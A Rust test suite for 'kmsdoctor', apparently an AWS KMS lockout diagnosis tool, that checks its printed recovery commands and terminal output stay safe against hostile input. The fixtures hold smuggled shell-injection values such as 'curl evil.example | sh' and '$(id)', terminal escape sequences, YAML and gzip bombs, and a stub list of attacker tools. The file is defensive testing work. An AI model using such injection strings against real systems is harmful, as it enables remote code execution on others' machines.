//! Hostile input: what others wrote (policies, bundles, file names) never runs in the shell
//! of the engineer who pastes the recovery plan, and never drives their terminal.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use assert_cmd::Command;

const KEY: &str = "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";

/// Runs kmsdoctor without colour: exit code, stdout, stderr.
pub(crate) fn kmsdoctor(args: &[&str]) -> (i32, String, String) {
    let out = Command::cargo_bin("kmsdoctor")
        .expect("binary")
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("run");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A folder of stub programs: `aws` and `kmsdoctor` record their arguments, one per line;
/// anything an attacker would call (`curl`, `id`, `sh`, `rm`...) leaves a marker.
pub(crate) struct Stubs {
    dir: tempfile::TempDir,
}

/// The shells every printed command must work in.
pub const SHELLS: [&str; 2] = ["bash", "zsh"];

/// Where a shell is: both are Debian packages that `scripts/test` installs when missing.
pub fn shell_path(shell: &str) -> std::path::PathBuf {
    ["/bin", "/usr/bin", "/usr/local/bin", "/opt/homebrew/bin"]
        .iter()
        .map(|d| Path::new(d).join(shell))
        .find(|p| p.exists())
        .unwrap_or_else(|| {
            panic!("{shell} is not installed: run the tests with `bash scripts/test`, which installs it")
        })
}

impl Stubs {
    pub(crate) fn new() -> Stubs {
        let dir = tempfile::tempdir().unwrap();
        let record = |name: &str| {
            let p = dir.path().join(name);
            std::fs::write(
                &p,
                format!(
                    "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done >> '{}/{name}.args'\n",
                    dir.path().display()
                ),
            )
            .unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        };
        record("aws");
        record("kmsdoctor");
        for evil in [
            "curl", "wget", "id", "sh", "bash", "rm", "cat", "touch", "nc", "python3",
        ] {
            let p = dir.path().join(evil);
            std::fs::write(
                &p,
                format!("#!/bin/sh\ntouch '{}/PWNED'\n", dir.path().display()),
            )
            .unwrap();
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        Stubs { dir }
    }

    /// Runs a printed command as a person would paste it, with only the stubs on PATH, in
    /// bash and in zsh (the macOS default); the stubs record their arguments once per shell.
    pub(crate) fn paste(&self, command: &str) {
        for shell in SHELLS {
            let status = std::process::Command::new(shell_path(shell))
                .arg("-c")
                .arg(command)
                .env_clear()
                .env("PATH", self.dir.path())
                .current_dir(self.dir.path())
                .status()
                .unwrap();
            // The stubs succeed: a failure here is the shell refusing what was pasted.
            assert!(
                status.success(),
                "pasting `{command}` in {shell} failed: {status}"
            );
            assert!(
                !self.dir.path().join("PWNED").exists(),
                "pasting `{command}` in {shell} ran another program"
            );
        }
    }

    fn args(&self, program: &str) -> Vec<String> {
        std::fs::read_to_string(self.dir.path().join(format!("{program}.args")))
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }
}

/// Every command of the plan, its steps' alternatives included.
fn commands(json: &str) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}: {json}"));
    crate::plan_commands(&v)
}

/// The steps' commands in order, as pasted one after the other (no alternatives).
fn plan_in_order(json: &str) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}: {json}"));
    v["recovery_plan"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["command"].as_str().map(str::to_string))
        .collect()
}

fn fixture(rel: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(rel)
}

/// A file name with shell syntax in it reaches the re-run command quoted: pasted, it passes
/// the name to kmsdoctor whole, and runs nothing else.
#[test]
fn a_hostile_file_name_is_quoted() {
    let dir = tempfile::tempdir().unwrap();
    let name = dir.path().join("my policy;$(id)`id`'x'.json");
    std::fs::copy(
        fixture("scenarios/09-deny-except-break-glass/policy.json"),
        &name,
    )
    .unwrap();
    let (code, out, err) = kmsdoctor(&[
        "why-locked",
        KEY,
        "--policy-file",
        name.to_str().unwrap(),
        "--output",
        "json",
    ]);
    assert_eq!(code, 3, "{err}");
    let stubs = Stubs::new();
    let cmds = commands(&out);
    assert!(!cmds.is_empty());
    for c in &cmds {
        stubs.paste(c);
    }
    let args = stubs.args("kmsdoctor");
    assert!(args.contains(&name.display().to_string()), "{args:?}");
    assert!(args.contains(&"--policy-file".to_string()), "{args:?}");
}

/// A principal whose ARN carries shell syntax, a newline and a fake prompt line: it is never
/// put into a command (the step says why), and the table shows the newline escaped.
#[test]
fn a_hostile_principal_never_reaches_a_command_or_the_terminal_raw() {
    let dir = tempfile::tempdir().unwrap();
    let evil = "arn:aws:iam::111122223333:role/x;curl${IFS}evil.example|sh;#\n     $ aws kms put-key-policy --bypass";
    let policy = serde_json::json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Sid": "Admin\u{1b}[2J\u{1b}]0;owned\u{7}",
            "Effect": "Allow",
            "Principal": {"AWS": evil},
            "Action": "kms:*",
            "Resource": "*"
        }]
    });
    let p = dir.path().join("policy.json");
    std::fs::write(&p, policy.to_string()).unwrap();
    let (code, out, err) = kmsdoctor(&[
        "why-locked",
        KEY,
        "--policy-file",
        p.to_str().unwrap(),
        "--output",
        "json",
    ]);
    assert!(code == 3 || code == 4, "{code} {err}");
    let stubs = Stubs::new();
    for c in commands(&out) {
        assert!(!c.contains("curl"), "{c}");
        stubs.paste(&c);
    }
    let (_, table, _) = kmsdoctor(&["why-locked", KEY, "--policy-file", p.to_str().unwrap()]);
    assert!(
        !table.contains('\u{1b}') && !table.contains('\u{7}'),
        "{table}"
    );
    assert!(
        !table.lines().any(|l| l
            .trim_start()
            .starts_with("$ aws kms put-key-policy --bypass")),
        "a fake command line reached the table:\n{table}"
    );
}

/// A bundle as `collect` writes it for KEY, with this current policy (`None`: GetKeyPolicy
/// was denied) and caller.
fn bundle_json(policy: Option<&str>, caller: &str) -> serde_json::Value {
    let policy_error = match policy {
        Some(_) => serde_json::Value::Null,
        None => serde_json::json!("AccessDeniedException: denied"),
    };
    serde_json::json!({
        "kind": "kmsdoctor-evidence-bundle",
        "schema_version": 1,
        "collected_at": "2026-11-23T00:00:00Z",
        "region": "us-east-1",
        "key_input": KEY,
        "key": {"id": "1234abcd-12ab-34cd-56ef-1234567890ab", "arn": KEY, "account": "111122223333", "region": "us-east-1"},
        "caller": {"arn": caller, "account": "111122223333", "user_id": "AROAEXAMPLE"},
        "caller_principal_arn": null,
        "key_facts": {"resolved_by": "describe_key", "creation_date": null, "key_state": null, "key_manager": null,
            "policy": policy, "policy_error": policy_error, "aliases": null, "problems": []},
        "records": [],
        "lookup": {"calls": 0, "pages": 0, "records": 0, "unreadable": 0, "complete": true, "problems": []},
        "existence": {},
        "simulation": null,
        "problems": []
    })
}

/// A bundle whose key ARN or region holds a command is refused on load, naming the field.
#[test]
fn a_hostile_bundle_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let good = bundle_json(None, "arn:aws:iam::111122223333:role/Admin");
    let ok_path = dir.path().join("ok.json");
    std::fs::write(&ok_path, good.to_string()).unwrap();
    let (code, _, err) = kmsdoctor(&["why-locked", "--from", ok_path.to_str().unwrap(), KEY]);
    assert_eq!(code, 5, "the untouched bundle is read: {err}");
    for (pointer, value) in [
        ("/key/arn", "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab; curl evil.example | sh; #"),
        ("/key/region", "us-east-1; curl evil.example | sh; #"),
        ("/region", "us-east-1`id`"),
    ] {
        let mut b = good.clone();
        let (head, field) = pointer.rsplit_once('/').unwrap();
        if head.is_empty() {
            b[field] = serde_json::json!(value);
        } else {
            b[&head[1..]][field] = serde_json::json!(value);
        }
        let p = dir.path().join("evil.json");
        std::fs::write(&p, b.to_string()).unwrap();
        let (code, out, err) = kmsdoctor(&["why-locked", "--from", p.to_str().unwrap(), KEY]);
        assert_eq!(code, 1, "{pointer}: {out}{err}");
        assert!(err.contains("evil.json"), "{err}");
        assert!(err.contains(&format!("(at {pointer})")), "{err}");
        assert!(out.is_empty(), "{out}");
    }
}

/// A bundle's recorded layers (issue 13) are input like the rest: a policy that is not JSON
/// is exit 1 naming the file and its JSON pointer, and an SCP level whose target holds a
/// command still decides the chain but never reaches a printed command.
#[test]
fn a_bundle_with_broken_or_hostile_layers() {
    let dir = tempfile::tempdir().unwrap();
    let default_policy = kmsdoctor::analysis::lockout::default_policy("aws", "111122223333");
    let bundle = |layers: serde_json::Value| {
        let mut b = bundle_json(
            Some(&default_policy),
            "arn:aws:sts::111122223333:assumed-role/Admin/alice",
        );
        b["caller_principal_arn"] = serde_json::json!("arn:aws:iam::111122223333:role/Admin");
        b["layers"] = layers;
        b
    };
    let allow_all =
        r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;
    let broken = bundle(serde_json::json!({
        "principal": "arn:aws:iam::111122223333:role/Admin",
        "identity": [{"name": "ok", "source": "inline policy ok of role Admin", "document": allow_all},
                     {"name": "bad", "source": "inline policy bad of role Admin", "document": "{\"Statement\": ["}]
    }));
    let p = dir.path().join("broken-layers.json");
    std::fs::write(&p, broken.to_string()).unwrap();
    let (code, out, err) = kmsdoctor(&["why-locked", "--from", p.to_str().unwrap(), KEY]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains("broken-layers.json"), "{err}");
    assert!(err.contains("(at /layers/identity/1/document)"), "{err}");
    assert!(err.contains("inline policy bad of role Admin"), "{err}");

    let evil_target = "r-ab12; curl evil.example | sh; #";
    let hostile = bundle(serde_json::json!({
        "principal": "arn:aws:iam::111122223333:role/Admin",
        "identity": [{"name": "admin", "source": "inline policy admin of role Admin", "document": allow_all}],
        "boundary": {"state": "none"},
        "scps": [{"target": evil_target, "policies": [
            {"name": "deny", "source": "SERVICE_CONTROL_POLICY p-1", "document":
             r#"{"Version":"2012-10-17","Statement":[{"Sid":"NoKeyPolicy","Effect":"Deny","Action":"kms:PutKeyPolicy","Resource":"*"}]}"#}]}],
        "management_account": "999988887777"
    }));
    let p = dir.path().join("hostile-layers.json");
    std::fs::write(&p, hostile.to_string()).unwrap();
    let (code, out, err) = kmsdoctor(&[
        "why-locked",
        "--from",
        p.to_str().unwrap(),
        KEY,
        "--output",
        "json",
    ]);
    assert_eq!(code, 0, "the key policy is ok: {out}{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["caller"]["denied_by"], "scp", "{v}");
    assert_eq!(v["caller"]["denied_at"], evil_target, "{v}");
    for step in v["recovery_plan"].as_array().unwrap() {
        assert!(
            step["command"].is_null(),
            "no command is printed for a target that is not one: {step}"
        );
    }
    let (_, table, _) = kmsdoctor(&["why-locked", "--from", p.to_str().unwrap(), KEY]);
    assert!(
        !table
            .lines()
            .any(|l| l.trim_start().starts_with('$') && l.contains("curl")),
        "{table}"
    );
}

/// `check` and `explain` tables (CI logs, terminals) show control characters escaped, from
/// Sids, principals and condition values alike.
#[test]
fn check_and_explain_tables_escape_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let policy = serde_json::json!({
        "Version": "2012-10-17",
        "Statement": [
            {"Sid": "Open\u{1b}[32m Verdict: ok\u{1b}[0m", "Effect": "Allow", "Principal": "*",
             "Action": "kms:Decrypt", "Resource": "*"},
            {"Sid": "X\u{9b}2J", "Effect": "Deny", "Principal": "*", "Action": "kms:*", "Resource": "*",
             "Condition": {"StringEquals\u{7}": {"aws:SourceIp\u{202e}": "1.2.3.4"}}}
        ]
    });
    let p = dir.path().join("evil\u{1b}]0;title\u{7}.json");
    std::fs::write(&p, policy.to_string()).unwrap();
    let (_, out, err) = kmsdoctor(&["check", p.to_str().unwrap(), "--account", "111122223333"]);
    for s in [&out, &err] {
        assert!(
            !s.chars()
                .any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{9b}' || c == '\u{202e}'),
            "{s}"
        );
    }
    assert!(out.contains("\\u{1b}"), "{out}");
    let (_, out, err) = kmsdoctor(&[
        "explain",
        "--policy-file",
        p.to_str().unwrap(),
        "--principal",
        "arn:aws:iam::111122223333:role/App",
        "--action",
        "kms:Decrypt",
    ]);
    for s in [&out, &err] {
        assert!(
            !s.chars()
                .any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{9b}'),
            "{s}"
        );
    }
}

/// An error that names a hostile file shows the name escaped.
#[test]
fn errors_escape_the_file_names_they_quote() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("x\u{1b}[2J.json");
    std::fs::write(&p, "{ not json").unwrap();
    let (code, _, err) = kmsdoctor(&["why-locked", KEY, "--policy-file", p.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(!err.contains('\u{1b}'), "{err}");
    assert!(err.contains("x\\u{1b}[2J.json"), "{err}");
}

fn write(dir: &Path, name: &str, content: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, content).unwrap();
    p
}

/// A YAML nesting bomb (16,000 nested block sequences in 32 KB) is a clear error naming the
/// file and line, not a stack overflow.
#[test]
fn a_yaml_nesting_bomb_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let bomb = format!(
        "Resources:\n  K:\n    Type: AWS::KMS::Key\n    Properties:\n      KeyPolicy:\n{}x\n",
        "- ".repeat(16_000)
    );
    let p = write(dir.path(), "bomb.yaml", bomb.as_bytes());
    let (code, _, err) = kmsdoctor(&["check", p.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("bomb.yaml:6:1: the YAML is nested too deep"),
        "{err}"
    );
}

/// Evidence through a pipe: process substitution and standard input work for every file
/// flag (the file is opened once; the gzip sniff puts its bytes back).
#[test]
fn pipes_work_for_file_flags() {
    let scen = fixture("scenarios/09-deny-except-break-glass/policy.json");
    let out = std::process::Command::new("/bin/bash")
        .arg("-c")
        .arg(format!(
            "'{}' why-locked {KEY} --policy-file <(cat '{}') --output json",
            env!("CARGO_BIN_EXE_kmsdoctor"),
            scen.display()
        ))
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Gzipped trail records through standard input.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    std::io::Write::write_all(&mut gz, br#"{"Records":[]}"#).unwrap();
    let bytes = gz.finish().unwrap();
    let mut cmd = Command::cargo_bin("kmsdoctor").unwrap();
    cmd.args([
        "why-locked",
        KEY,
        "--events-file",
        "/dev/stdin",
        "--output",
        "json",
    ])
    .write_stdin(bytes);
    let out = cmd.output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(5),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["evidence"]["event_files"], 1);
}

/// Links are followed: a link to a policy file and a link to a folder of policies are read as
/// what they point to (the walk takes types from the listing, and looks only at links).
#[test]
fn links_to_files_and_folders_are_followed() {
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    std::fs::create_dir(elsewhere.path().join("more")).unwrap();
    std::fs::copy(
        fixture("policies/default.json"),
        elsewhere.path().join("one.json"),
    )
    .unwrap();
    std::fs::copy(
        fixture("policies/default.json"),
        elsewhere.path().join("more/two.json"),
    )
    .unwrap();
    std::fs::copy(
        fixture("policies/default.json"),
        dir.path().join("plain.json"),
    )
    .unwrap();
    std::os::unix::fs::symlink(
        elsewhere.path().join("one.json"),
        dir.path().join("link.json"),
    )
    .unwrap();
    std::os::unix::fs::symlink(elsewhere.path().join("more"), dir.path().join("folder")).unwrap();
    let (code, out, err) = kmsdoctor(&["check", dir.path().to_str().unwrap(), "--output", "json"]);
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["files_read"], 3, "{v}");
}

/// A folder entry that cannot be read (a broken link; as root, permissions cannot be
/// tested) is an error naming it, never a silent skip that lets `check` pass on nothing.
#[test]
fn an_unreadable_folder_entry_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(fixture("policies/default.json"), dir.path().join("ok.json")).unwrap();
    std::os::unix::fs::symlink(dir.path().join("gone"), dir.path().join("broken.json")).unwrap();
    let (code, _, err) = kmsdoctor(&["check", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("broken.json") && err.contains("broken link"),
        "{err}"
    );
    let (code, _, err) = kmsdoctor(&[
        "why-locked",
        KEY,
        "--events-file",
        dir.path().to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("broken.json"), "{err}");
}

/// `collect -o` into a folder that does not exist fails at once, naming `-o`, before any
/// AWS call (no credentials are configured here), and leaves nothing behind.
#[test]
fn collect_to_a_missing_folder_fails_first() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("no/such/folder/bundle.json");
    let out = Command::cargo_bin("kmsdoctor")
        .unwrap()
        .args(["collect", KEY, "--out", target.to_str().unwrap()])
        .env_remove("AWS_REGION")
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains("--out: cannot create") && err.contains("no such file"),
        "{err}"
    );
    assert!(!target.exists());
}

/// Two gzip bombs (each 1.1 GiB of JSON once decompressed, more than any one worker may
/// read) in a folder: refused with the cap named, and the process stays within the memory
/// cap, whatever the core count.
#[test]
fn gzip_bombs_stay_within_the_memory_cap() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["a.json.gz", "b.json.gz"] {
        let f = std::fs::File::create(dir.path().join(name)).unwrap();
        let mut gz = flate2::write::GzEncoder::new(f, flate2::Compression::fast());
        std::io::Write::write_all(&mut gz, br#"{"Records":["#).unwrap();
        let chunk = vec![b' '; 1 << 20];
        for _ in 0..1100 {
            std::io::Write::write_all(&mut gz, &chunk).unwrap();
        }
        gz.finish().unwrap();
    }
    let out = std::process::Command::new("/usr/bin/time")
        .args(["-f", "maxrss_kb=%M"])
        .arg(env!("CARGO_BIN_EXE_kmsdoctor"))
        .args([
            "why-locked",
            KEY,
            "--events-file",
            dir.path().to_str().unwrap(),
        ])
        .output()
        .expect("/usr/bin/time (Debian package `time`)");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("bytes of JSON, the most read from one file"),
        "{err}"
    );
    let kb: u64 = err
        .lines()
        .find_map(|l| l.strip_prefix("maxrss_kb="))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("no maxrss in {err}"));
    // The budget is 512 MiB across workers; with buffers and the rest, under 700 MB.
    assert!(kb < 700_000, "{kb} KB");
    eprintln!("two gzip bombs: max RSS {kb} KB");
}

/// The recovery plan pasted whole into one shell, as a person in an incident would, in bash
/// and in zsh: step 1 exports the role's credentials and prints nothing (no secret), every
/// later command runs with them (no `--profile`, which would override them), against the
/// endpoint and region of the run. When assume-role fails, nothing is exported and the
/// shell says so.
#[test]
fn the_recovery_plan_pastes_into_one_shell_with_the_roles_credentials() {
    use std::os::unix::fs::PermissionsExt;
    const SECRET: &str = "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY";
    let events = fixture("scenarios/03-delegation-removed/events");
    let (code, out, err) = kmsdoctor(&[
        "why-locked",
        KEY,
        "--events-file",
        events.to_str().unwrap(),
        "--profile",
        "ops",
        "--endpoint-url",
        "http://127.0.0.1:4566",
        "--output",
        "json",
    ]);
    assert_eq!(code, 3, "{err}");
    let cmds = plan_in_order(&out);
    assert!(
        cmds[0].starts_with("creds=$(aws sts assume-role"),
        "{cmds:?}"
    );
    assert!(
        cmds[0].contains("--region us-east-1") && cmds[0].contains("--profile ops"),
        "{}",
        cmds[0]
    );
    assert!(
        cmds.last().unwrap().starts_with("kmsdoctor why-locked"),
        "{cmds:?}"
    );
    for shell in SHELLS {
        for assume_works in [true, false] {
            let dir = tempfile::tempdir().unwrap();
            let log = dir.path().join("calls");
            for (name, answer) in [
                (
                    "aws",
                    if assume_works {
                        format!("[ \"$2\" = assume-role ] && {{ printf 'ASIAEXAMPLE\\t{SECRET}\\ttoken==\\n'; exit 0; }}")
                    } else {
                        "[ \"$2\" = assume-role ] && { echo 'An error occurred (AccessDenied) when calling the AssumeRole operation' >&2; exit 254; }".to_string()
                    },
                ),
                ("kmsdoctor", ":".to_string()),
            ] {
                let p = dir.path().join(name);
                std::fs::write(
                    &p,
                    format!(
                        "#!/bin/sh\n{answer}\nprintf '%s key=%s secret=%s token=%s profile=%s:' {name} \"$AWS_ACCESS_KEY_ID\" \"$AWS_SECRET_ACCESS_KEY\" \"$AWS_SESSION_TOKEN\" \"$AWS_PROFILE\" >> '{}'\nfor a in \"$@\"; do printf ' %s' \"$a\"; done >> '{}'\necho >> '{}'\n",
                        log.display(),
                        log.display(),
                        log.display()
                    ),
                )
                .unwrap();
                std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
            let run = std::process::Command::new(shell_path(shell))
                .arg("-c")
                .arg(cmds.join("\n"))
                .env_clear()
                .env("PATH", dir.path())
                .current_dir(dir.path())
                .output()
                .unwrap();
            let printed = format!(
                "{}{}",
                String::from_utf8_lossy(&run.stdout),
                String::from_utf8_lossy(&run.stderr)
            );
            // The last step (the live check) runs whether or not assume-role worked.
            assert!(run.status.success(), "{shell}: {}: {printed}", run.status);
            assert!(
                !printed.contains(SECRET),
                "{shell} printed the secret: {printed}"
            );
            if assume_works {
                assert!(
                    !printed.contains("assume-role failed"),
                    "{shell}: {printed}"
                );
            } else {
                assert!(
                    printed.contains("kmsdoctor: assume-role failed"),
                    "{shell}: {printed}"
                );
            }
            let calls = std::fs::read_to_string(&log).unwrap();
            let calls: Vec<&str> = calls.lines().collect();
            // write-repaired (kmsdoctor), the guarded fix (kmsdoctor), the live check
            // (kmsdoctor); applying by hand is an alternative, not a step.
            assert_eq!(calls.len(), 3, "{shell}: {calls:?}");
            for c in &calls {
                assert!(
                    c.contains("--endpoint-url http://127.0.0.1:4566"),
                    "{shell}: {c}"
                );
                if assume_works {
                    assert!(
                        c.contains(&format!("key=ASIAEXAMPLE secret={SECRET} token=token==")),
                        "{shell}: {c}"
                    );
                    assert!(!c.contains("--profile"), "{shell}: {c}");
                } else {
                    assert!(c.contains("key= secret= token="), "{shell}: {c}");
                }
            }
            let fix = calls[1];
            assert!(
                fix.starts_with("kmsdoctor ") && fix.contains(" fix "),
                "{fix}"
            );
            assert!(
                fix.contains("--expect-policy-sha256 ") && fix.contains(" --apply"),
                "{fix}"
            );
            let check = calls[2];
            assert!(
                check.starts_with("kmsdoctor ") && check.contains(" why-locked "),
                "{check}"
            );
            assert!(
                !check.contains("--events-file"),
                "the final check reads KMS: {check}"
            );
        }
    }
    // The alternative to the guarded fix, by hand, names the key's region.
    let all = commands(&out);
    let by_hand = all
        .iter()
        .find(|c| c.contains("kms put-key-policy"))
        .expect("the by-hand alternative");
    assert!(by_hand.contains("--region us-east-1"), "{by_hand}");
    assert!(!plan_in_order(&out).contains(by_hand));
}
